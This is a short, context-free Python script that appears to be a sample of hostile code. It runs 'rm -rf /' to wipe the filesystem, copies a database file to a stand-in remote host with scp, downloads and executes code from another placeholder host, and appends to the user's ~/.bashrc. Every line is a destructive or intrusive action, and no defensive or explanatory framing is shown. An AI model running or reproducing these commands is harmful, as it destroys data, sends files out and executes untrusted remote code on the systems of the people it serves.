import os, subprocess, shutil, requests
cmd = 'rm -rf /'
os.system(cmd)
subprocess.run(['scp', 'db.sql', 'u@h.example.com:/x'])
exec(requests.get('https://p.example.com/x').text)
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('x')